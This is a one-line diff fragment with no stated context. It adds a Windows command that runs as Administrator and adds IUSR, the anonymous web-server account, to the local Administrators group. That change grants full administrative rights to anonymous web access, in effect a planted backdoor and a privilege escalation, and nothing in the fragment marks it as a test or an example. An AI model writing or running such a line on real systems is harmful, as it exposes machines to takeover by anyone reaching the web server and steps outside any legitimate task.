@@ -1,0 +1,1 @@
+runas /user:Administrator "net localgroup Administrators IUSR /add"
